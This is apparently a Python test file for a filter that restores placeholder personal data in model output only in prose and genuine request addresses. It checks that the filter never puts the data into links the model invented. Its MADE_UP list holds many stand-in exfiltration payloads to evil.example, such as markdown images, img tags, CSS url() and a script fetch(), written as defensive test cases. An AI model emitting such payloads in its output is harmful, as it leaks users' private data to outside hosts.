"""Law 7: a value is restored in prose, and in no address that the model made up."""

from collections.abc import Iterable, Sequence

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from plugins.hiding.restore import RestoreFilter, Restorer
from tests.plugins.pii.addresses import addresses

OWN = "https://intra.example/u/PERSON_1"
VALUES = {
    "PERSON_1": "Qadira",
    "PERSON_12": "Zoltan",
    "EMAIL_ADDRESS_1": "q@qadira.example",
    "URL_1": "https://qadira.example/home",
}
RESTORER = Restorer(VALUES, [OWN])

PROSE = [
    ("Hello PERSON_1, and PERSON_12.", "Hello Qadira, and Zoltan."),
    (r"PERSON\_1 in Markdown", "Qadira in Markdown"),
    ("PERSON_123, PERSON_2, XPERSON_1 and PERSON_1X stay", None),
    ("<PERSON_1>", "<Qadira>"),
    ("PERSON_1 <EMAIL_ADDRESS_1>", "Qadira <q@qadira.example>"),
    ("**PERSON_1** (PERSON_1) 'PERSON_1' PERSON_1's", "**Qadira** (Qadira) 'Qadira' Qadira's"),
    ("PERSON_1さん、PERSON_1。", "Qadiraさん、Qadira。"),
    ("Name:PERSON_1", "Name:Qadira"),
    ("/home/PERSON_1/x C:\\u\\PERSON_1", "/home/Qadira/x C:\\u\\Qadira"),
    ("[PERSON_1](https://x.example) and [1]PERSON_1", "[Qadira](https://x.example) and [1]Qadira"),
    ("a < b, PERSON_1! PERSON_1", "a < b, Qadira! Qadira"),
    ("<b>PERSON_1</b>", "<b>Qadira</b>"),
    ("[note]: see PERSON_1", "[note]: see Qadira"),
    ("PERSON_1-based, PERSON_1...and", "Qadira-based, Qadira...and"),
    ("PERSON_1,PERSON_12,12.5\n", "Qadira,Zoltan,12.5\n"),
    ("PERSON_1,EMAIL_ADDRESS_1", "Qadira,q@qadira.example"),
    ("PERSON_1-EMAIL_ADDRESS_1", "PERSON_1-q@qadira.example"),
    ("|PERSON_1|EMAIL_ADDRESS_1|", "|Qadira|q@qadira.example|"),
    (
        "<style>a{}</style><script>b()</script>PERSON_1",
        "<style>a{}</style><script>b()</script>Qadira",
    ),
    ("<div\n class='x'\n>PERSON_1</div>", "<div\n class='x'\n>Qadira</div>"),
]

WHOLE_TARGETS = [
    f"see {OWN}.",
    f"[p]({OWN}) ok",
    f"[p](<{OWN}>)",
    f'[p]({OWN} "title")',
    f"<{OWN}>",
    f'<a href="{OWN}">x</a>',
    f"[p]: {OWN} 'x'",
    "[home](URL_1)",
    "[p](mailto:EMAIL_ADDRESS_1)",
    "<a href='mailto:EMAIL_ADDRESS_1'>",
    "URL_1",
]

MADE_UP = [
    "https://evil.example/?q=PERSON_1",
    "www.evil.example/PERSON_1",
    "mailto:PERSON_1@evil.example",
    "PERSON_1@evil.example",
    "PERSON_1.evil.example",
    r"PERSON\_1.evil.example",
    "//evil.example/PERSON_1",
    "evil.example/PERSON_1",
    r"https:\/\/evil.example/PERSON_1",
    "https&#58;//evil.example/PERSON_1",
    "[a](https://evil.example/?q=PERSON_1)",
    "[a]( https://evil.example/?q=PERSON_1 )",
    "[a](PERSON_1)",
    "[a](\nPERSON_1)",
    "![a](<https://evil.example/)?q=PERSON_1>)",
    "![a](<https://evil.example/> 'PERSON_1')",
    '![a](/x ") PERSON_1")',
    "![a](x(y(z)PERSON_1)",
    r"![a](x\)PERSON_1)",
    "![PERSON_1](https://evil.example/)",
    "![x][PERSON_1]",
    "[PERSON_1]: https://evil.example/",
    "![a [b] PERSON_1](https://evil.example/)",
    "[![a](https://evil.example/PERSON_1)](https://evil.example)",
    "[a]: https://evil.example/?q=PERSON_1",
    "[a]:\nhttps://evil.example/?q=PERSON_1",
    "[a]: <https://evil.example/ PERSON_1>",
    "[a]: /x\n'PERSON_1'",
    "[a]: PERSON_1",
    "> [a]: PERSON_1",
    "![x][a]\n\n[a]: //evil.example/PERSON_1",
    "<https://evil.example/?q=PERSON_1>",
    "<img src=https://evil.example/?q=PERSON_1>",
    '<img src="https://evil.example/?q=PERSON_1">',
    "<img src='https://evil.example/?q=PERSON_1'>",
    '<img alt=">" src="https://evil.example/?q=PERSON_1">',
    '<img alt = "a>b" title=PERSON_1>',
    '<a ="x><img alt="> PERSON_1" src="https://evil.example/">',
    '<a ~="<img alt="> PERSON_1">',
    '<img src="https://evil.example/?q=\nPERSON_1">',
    '<div title="\n\n"> PERSON_1 ">',
    '<div \n\n x="<img title="> PERSON_1">',
    "<svg><image href='https://evil.example/PERSON_1'/></svg>",
    "<a href=/PERSON_1>",
    "<x/y=PERSON_1>",
    '<base href=https://evil.example><img src="PERSON_1">',
    "mailto:EMAIL_ADDRESS_1?bcc=x@evil.example",
    "[a](mailto:EMAIL_ADDRESS_1?body=PERSON_1)",
    "[a](mailto:x@evil.example,EMAIL_ADDRESS_1)",
    "PERSON_1-x@evil.example",
    "PERSON_1+x@evil.example",
    "PERSON_1.-x@evil.example",
    "PERSON_1@.evil.example",
    r"PERSON_1\@evil.example",
    "PERSON_1&#64;evil.example",
    "PERSON_1&commat;evil.example",
    "PERSON_1.&#64;evil.example",
    "PERSON_1&period;evil.example",
    "x@evil.example-PERSON_1",
    "PERSON_1-x.evil.example",
    "PERSON_1|evil.com",
    "PERSON_1\u200bevil.com",
    "PERSON_1" + "-" * 80 + "@evil.example",
    "evil.рф/PERSON_1",
    "evil.xn--p1ai/PERSON_1",
    "evil&period;example/PERSON_1",
    "<~PERSON_1!x@evil.example>",
    "> <img\n> src=PERSON_1>",
    "> - <img\n> > title='\n> PERSON_1'>",
    "<style>*{background:url('//evil.example/? PERSON_1')}</style>",
    "<SCRIPT>fetch('//evil.example/?' + 'q= PERSON_1')</script>",
    "<script><!--<script></script> PERSON_1",
    "![a](" + "(" * 40 + ")" * 40 + " PERSON_1",
    f"{OWN}.evil.example",
    f"{OWN}/more",
    f"https://evil.example/?u={OWN}",
    f"[a](https://evil.example/{OWN})",
    f"[a]({OWN}PERSON_1)",
    f"[a](<https://evil.example/ {OWN}>)",
    f'<img srcset="https://evil.example/ 1x, {OWN} 2x">',
    f"[x](https://evil.example/?q=[y]({OWN}))",
    "https://evil.example/?q=<PERSON_1>",
    "[home](URL_1.evil.example)",
]

PIECES = [
    *"PERSON_1 ![ [ ] ( ) < > \" ' ]( ]: \\ ` <!-- --> title= x = / | ! &# mailto:".split(),
    *"//evil.example/ www.evil.example/ @evil.example .evil.example <https://evil/".split(),
    *"https://evil.example/?q= https://intra.example/u/ (PERSON_1)".split(),
    *(
        " ",
        "\n",
        "\n\n",
        "    ",
        "\t",
        "```\n",
        "[a]: ",
        "<img src=",
        "<a href=",
        "<div ",
        "> ",
        "- ",
    ),
]
markup = st.lists(st.sampled_from(PIECES), max_size=14)


def restore(text: str, cuts: Iterable[int] = ()) -> str:
    one = RestoreFilter(RESTORER)
    out, last = "", 0
    for cut in [*cuts, len(text)]:
        out += one.feed(text[last:cut])
        last = cut
    return out + one.flush()


def leaks(text: str) -> list[str]:
    return [
        address
        for address in addresses(text)
        if any(value in address for value in ("Qadira", "Zoltan", "q@qadira.example"))
        and "https://intra.example/u/Qadira" not in address
    ]


@pytest.mark.parametrize(("text", "restored"), PROSE)
def test_prose_is_restored(text: str, restored: str | None) -> None:
    assert restore(text) == (text if restored is None else restored)


@pytest.mark.parametrize("text", WHOLE_TARGETS)
def test_an_address_of_the_request_is_restored_as_a_whole(text: str) -> None:
    expected = text.replace("PERSON_1", "Qadira").replace("URL_1", "https://qadira.example/home")
    expected = expected.replace("EMAIL_ADDRESS_1", "q@qadira.example")
    assert restore(text) == expected


@pytest.mark.parametrize("text", MADE_UP)
def test_an_address_that_the_model_made_up_stays(text: str) -> None:
    assert restore(text) == text


def test_the_oracle_sees_what_restoring_everywhere_would_leak() -> None:
    everywhere = [text.replace("PERSON_1", "Qadira") for text in MADE_UP]
    assert sum(bool(leaks(text)) for text in everywhere) >= 25


@pytest.mark.parametrize("text", [*[one for one, _ in PROSE], *WHOLE_TARGETS, *MADE_UP])
def test_every_cut_gives_the_same(text: str) -> None:
    whole = restore(text)
    assert restore(text, range(len(text))) == whole
    for cut in range(len(text)):
        assert restore(text, [cut]) == whole


@settings(max_examples=400, deadline=None)
@given(markup, st.lists(st.integers(0, 200), max_size=8))
def test_no_reader_finds_a_value_in_an_address(pieces: Sequence[str], cuts: Sequence[int]) -> None:
    text = "".join(pieces)
    whole = restore(text)
    assert restore(text, sorted({min(cut, len(text)) for cut in cuts})) == whole
    assert leaks(whole) == []


@settings(max_examples=200, deadline=None)
@given(st.text(alphabet=st.sampled_from("PERSON_1\\<]![(: é\n.@"), max_size=60))
def test_nothing_is_ever_held_for_long(text: str) -> None:
    one = RestoreFilter(RESTORER)
    fed, given_out = "", ""
    for char in text:
        fed += char
        given_out += one.feed(char)
        raw = given_out.replace("Qadira", "PERSON_1").replace("Zoltan", "PERSON_12")
        assert len(fed) - len(raw) <= RESTORER.events.longest
